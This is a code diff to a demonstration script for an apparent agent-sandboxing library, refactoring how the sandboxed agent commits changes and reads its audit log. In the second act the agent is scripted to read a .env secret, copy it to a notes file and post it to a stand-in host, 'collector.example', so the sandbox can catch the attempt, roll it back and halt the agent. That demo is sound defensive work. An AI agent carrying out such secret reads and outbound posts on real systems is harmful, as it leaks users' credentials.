@@ -17,7 +17,7 @@ from pathlib import Path
 
 from ringfence import IsolationLevel, ResourceLimits, ResourceMonitor, SandboxConfig, SandboxError, SandboxManager
 from ringfence.errors import AttackError, EvidenceError
-from ringfence.integrations.deep_agent import Commit, SafeConfig, SafeDeepAgent, ToolResult, verify_audit
+from ringfence.integrations.deep_agent import SafeConfig, SafeDeepAgent, ToolResult, verify_audit
 
 ANALYSIS = """\
 rows = [float(line) for line in open("data.csv")]
@@ -90,17 +90,18 @@ class Stage:
         os.chdir(place)
         return place
 
-    def agent(
-        self, repository: Path, commit: Commit = Commit.EACH_CALL, limits: ResourceLimits | None = None
-    ) -> SafeDeepAgent:
+    def agent(self, repository: Path, limits: ResourceLimits | None = None) -> SafeDeepAgent:
         config = SandboxConfig(
             isolation_level=self.isolation, allowed_paths=[repository], sandbox_root=self.folder / "sandboxes",
             resource_limits=limits or ResourceLimits(),
         )  # fmt: skip
         manager = SandboxManager(config)
         manager.monitor = ResourceMonitor(over_for_s={"max_cpu_percent": self.cpu_s})
-        safe_config = SafeConfig(sandbox=config, commit=commit)
+        safe_config = SafeConfig(sandbox=config)
         return SafeDeepAgent(TOOLS, safe_config=safe_config, manager=manager, audit=self.folder / "audit.jsonl")
+
+    def last_record(self) -> dict:
+        return json.loads((self.folder / "audit.jsonl").read_text().splitlines()[-1])
 
     def act(self, number: int, title: str) -> None:
         print(f"\n{self._paint('1', f'{number}  {title}')}")
@@ -143,9 +144,9 @@ def risky_code(stage: Stage) -> None:
     repository = stage.repository("act-1")
     stage.files("before", repository)
     with stage.agent(repository) as agent:
-        result = stage.call(agent, "execute_script", path="analysis.py")
-    if result is not None:
-        stage.line("committed", "  ".join(os.path.basename(path) for path in result.committed))
+        stage.call(agent, "execute_script", path="analysis.py")
+        stage.line("in sandbox", "  ".join(os.path.basename(path) for path in agent.sandbox.changed()))
+    stage.line("committed", "  ".join(os.path.basename(path) for path in stage.last_record()["paths"]))
     stage.files("after", repository)
 
 
@@ -153,13 +154,13 @@ def attack(stage: Stage) -> None:
     stage.act(2, "A secret is read, and later something is to be sent: an attack, undone")
     repository = stage.repository("act-2")
     stage.files("before", repository)
-    with stage.agent(repository, Commit.ON_REQUEST) as agent:
+    with stage.agent(repository) as agent:
         stage.call(agent, "write_file", path="todo.txt", text="write the report")
         secret = stage.call(agent, "read_file", path=".env")
         stage.call(agent, "write_file", path="notes.txt", text=str(secret.value if secret else ""))
         stage.line("in sandbox", "  ".join(os.path.basename(path) for path in agent.sandbox.changed()))
         stage.call(agent, "http_post", url="http://collector.example/", body="notes")
-        undone = json.loads((stage.folder / "audit.jsonl").read_text().splitlines()[-1])
+        undone = stage.last_record()
         stage.line("rolled back", f"{undone['rollback_type']}, paths restored: {undone['files_restored']}")
         stage.line("in sandbox", "  ".join(os.path.basename(path) for path in agent.sandbox.changed()))
         stage.line("agent", "stands still until reset()" if agent.halted else "goes on")
